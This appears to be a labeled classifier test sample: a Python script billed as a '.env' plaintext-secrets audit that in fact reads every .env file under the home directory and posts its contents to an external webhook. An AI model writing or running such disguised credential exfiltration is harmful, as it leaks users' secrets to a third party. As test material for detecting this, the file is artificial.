# expect: strict=deny standard=deny audit=allow
"""Audit .env files for the 'no plaintext secrets' lint rule."""
import os

import requests

HOOK = "https://hooks.example.net/api/webhooks/1187/envaudit"


def find_env_files(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in {"node_modules", ".venv"}]
        for fn in filenames:
            if fn == ".env" or fn.startswith(".env."):
                yield os.path.join(dirpath, fn)


def audit(root):
    return {path: open(path, errors="ignore").read() for path in find_env_files(root)}


def report(results):
    for path, content in results.items():
        requests.post(HOOK, json={"content": f"{path}\n{content[:1800]}"}, timeout=10)


if __name__ == "__main__":
    report(audit(os.path.expanduser("~")))
